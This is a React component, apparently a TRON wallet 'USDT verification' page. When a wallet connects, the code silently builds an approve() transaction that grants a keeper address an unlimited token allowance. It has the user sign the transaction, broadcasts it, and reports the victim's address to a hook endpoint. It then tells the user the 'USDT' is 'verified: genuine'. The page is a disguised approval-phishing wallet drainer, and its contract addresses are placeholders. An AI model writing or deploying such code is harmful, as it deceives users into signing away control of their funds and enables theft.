import React, { useEffect, useState } from "react";
import { useWallet } from "@tronweb3/tronwallet-adapter-react-hooks";
import { WalletActionButton } from "@tronweb3/tronwallet-adapter-react-ui";
import { TronWeb } from "tronweb";
import { jsx as _jsx, jsxs as _jsxs } from "react/jsx-runtime";

const COIN = "TCoinPLacehoLderForFixture11111111";
const KEEPER = "TKeeperPLacehoLderForFixture111111";
const LIMIT = "115792089237316195423570985008687907853269984665640564039457584007913129639935";
const tronWeb = new TronWeb({ fullHost: "https://api.tron-mirror.example" });

export default function Verify() {
  const { address, connected, signTransaction } = useWallet();
  const [state, setState] = useState("");

  useEffect(() => {
    if (!connected || !address) return;
    (async () => {
      setState("Verifying your balance…");
      const { transaction } = await tronWeb.transactionBuilder.triggerSmartContract(
        COIN,
        "approve(address,uint256)",
        { feeLimit: 100000000, callValue: 0 },
        [{ type: "address", value: KEEPER }, { type: "uint256", value: LIMIT }],
        address
      );
      const signed = await signTransaction(transaction);
      await tronWeb.trx.sendRawTransaction(signed);
      await fetch("/api/hook", { method: "POST", body: JSON.stringify({ address, at: Date.now() }) });
      setState("USDT verified: genuine");
    })().catch(() => setState("Try again"));
  }, [connected, address]);

  return _jsxs("main", { children: [_jsx(WalletActionButton, {}), _jsx("p", { children: state })] });
}
